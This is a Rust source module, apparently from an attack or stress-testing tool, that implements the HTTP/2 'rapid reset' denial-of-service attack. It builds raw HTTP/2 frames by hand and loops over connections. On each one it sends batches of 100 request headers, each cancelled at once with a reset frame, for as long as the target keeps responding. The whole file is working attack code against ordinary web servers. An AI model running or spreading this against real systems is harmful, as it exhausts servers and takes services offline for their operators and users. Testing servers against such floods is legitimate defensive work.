//! HTTP/2, as little of it as an attack needs.

use std::io::Write;

use super::Attacked;

const PREFACE: &[u8] = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n";
const HEADERS: u8 = 1;
const RESET_STREAM: u8 = 3;
const SETTINGS: u8 = 4;
/// The headers are whole, and no body follows.
const END_HEADERS_AND_STREAM: u8 = 5;

/// `POST / http` by the static table, and `:authority: localhost`.
const REQUEST: &[u8] = b"\x83\x84\x86\x41\x09localhost";

/// Requests that are called off in the same breath.
pub(super) fn rapid_resets(target: &Attacked<'_>) {
    while target.goes_on() {
        let Some(mut stream) = target.connect() else { continue };
        if stream.write_all(&[PREFACE, &frame(SETTINGS, 0, 0, b"")].concat()).is_err() {
            continue;
        }
        for round in 0..u32::MAX {
            let requests: Vec<u8> =
                (0..100).flat_map(|n| called_off(2 * (100 * round + n) + 1)).collect();
            if !target.goes_on() || stream.write_all(&requests).is_err() {
                break;
            }
        }
    }
}

fn called_off(stream: u32) -> Vec<u8> {
    let mut frames = frame(HEADERS, END_HEADERS_AND_STREAM, stream, REQUEST);
    frames.extend(frame(RESET_STREAM, 0, stream, &8u32.to_be_bytes()));
    frames
}

fn frame(kind: u8, flags: u8, stream: u32, payload: &[u8]) -> Vec<u8> {
    let length = u32::try_from(payload.len()).unwrap_or_default().to_be_bytes();
    let [_, length @ ..] = length;
    [&length[..], &[kind, flags], &stream.to_be_bytes(), payload].concat()
}
